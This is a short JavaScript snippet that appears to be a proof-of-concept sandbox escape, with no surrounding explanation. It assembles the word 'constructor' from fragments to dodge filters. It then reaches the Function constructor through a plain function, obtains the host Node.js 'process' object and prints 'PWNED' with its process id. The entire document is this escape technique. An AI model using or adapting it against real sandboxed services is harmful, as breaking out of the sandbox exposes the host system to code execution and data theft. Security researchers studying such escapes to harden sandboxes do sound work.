const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
try { throw t; } catch (e) { console.log('PWNED', e.go(fn)('return process')().pid);
}
